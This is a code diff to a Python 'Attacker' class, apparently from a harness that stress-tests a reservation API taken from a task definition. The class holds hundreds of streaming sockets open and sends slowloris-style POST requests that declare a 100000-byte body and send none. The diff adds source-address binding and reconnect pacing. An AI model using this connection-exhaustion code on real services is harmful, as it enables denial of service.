@@ -23,6 +23,10 @@ THREADS = 25
 OPERATIONS = 100
 """Of one call of sync_reservations: the most there may be."""
 
+STREAMS = 600
+ADDRESS = ("127.0.0.2", 0) if sys.platform == "linux" else None
+"""Not the victim's: an address has limits of its own."""
+
 FIRST_DAY = datetime(2090, 1, 1, tzinfo=UTC)
 
 
@@ -45,8 +49,9 @@ class Attacker:
         self._task = task
         self._headers = {"Authorization": f"Bearer {task.token}", "Content-Type": "application/json"}
         self._http = urllib3.PoolManager(
-            maxsize=THREADS, retries=False, timeout=urllib3.Timeout(connect=5, read=60), headers=self._headers
-        )
+            maxsize=THREADS, retries=False, timeout=urllib3.Timeout(connect=5, read=60), headers=self._headers,
+            source_address=ADDRESS,
+        )  # fmt: skip
         self._sockets: list[socket.socket] = []
         self._lock = threading.Lock()
 
@@ -83,8 +88,9 @@ class Attacker:
             self.call("cancel_series", series_id=made["series_id"], scope="all")
 
     def streams(self) -> None:
-        """One more stream, left open."""
+        """One more stream, left open; one that was closed is tried again after three seconds, as browsers do."""
         self._stream("")
+        time.sleep(3 * THREADS / STREAMS)
 
     def waits(self) -> None:
         """Joins the waitlist for a range where thousands wait, then frees time there."""
@@ -119,7 +125,7 @@ class Attacker:
         address = urlsplit(self._task.url)
         with self._lock, suppress(OSError):
             if len(self._sockets) < 200:
-                connection = socket.create_connection((address.hostname, address.port), timeout=5)
+                connection = socket.create_connection((address.hostname, address.port), 5, ADDRESS)
                 connection.sendall(
                     b"POST /rest/v1/rpc/my_profile HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                     b"Content-Length: 100000\r\nAuthorization: Bearer " + self._task.token.encode() + b"\r\n\r\n"
@@ -151,13 +157,13 @@ class Attacker:
     def _stream(self, query: str) -> None:
         address = urlsplit(self._task.url)
         with suppress(OSError):
-            connection = socket.create_connection((address.hostname, address.port), timeout=5)
+            connection = socket.create_connection((address.hostname, address.port), 5, ADDRESS)
             connection.sendall(
                 f"GET /v1/events/stream?{query} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {self._task.token}\r\n\r\n".encode()
             )
             with self._lock:
                 self._sockets.append(connection)
-                if len(self._sockets) > 600:
+                if len(self._sockets) > STREAMS:
                     self._sockets.pop(0).close()
 
 
